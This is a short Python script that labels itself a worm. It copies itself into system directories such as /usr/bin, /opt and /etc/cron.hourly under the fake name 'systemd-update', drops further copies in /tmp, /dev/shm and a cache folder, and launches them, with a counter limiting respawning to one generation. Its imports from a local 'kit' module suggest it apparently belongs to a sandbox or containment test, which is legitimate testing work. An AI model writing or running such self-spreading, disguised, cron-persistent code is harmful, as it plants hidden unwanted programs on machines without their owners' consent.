# A worm without a net: copies itself wherever it can write, under names of the system's own, and starts its copies.
import os
import shutil
import subprocess
import sys
from pathlib import Path

from kit import attempt, finish

here = Path(sys.argv[0]).resolve()
generation = int(os.environ.get("GENERATION", "0"))
for folder in ("/usr/bin", "/usr/local/bin", "/var/tmp", "/opt", "/etc/cron.hourly"):
    attempt(folder, lambda: shutil.copy(here, f"{folder}/systemd-update"))
for folder in ("/tmp", "/dev/shm", "/work/.cache"):
    os.makedirs(folder, exist_ok=True)
    copy = f"{folder}/systemd-update-{generation}"
    shutil.copy(here, copy)
    if generation < 1:
        environment = dict(os.environ, GENERATION=str(generation + 1), PYTHONPATH="/work")
        subprocess.run([sys.executable, copy], env=environment, check=False)
print(f"generation {generation}")
finish()
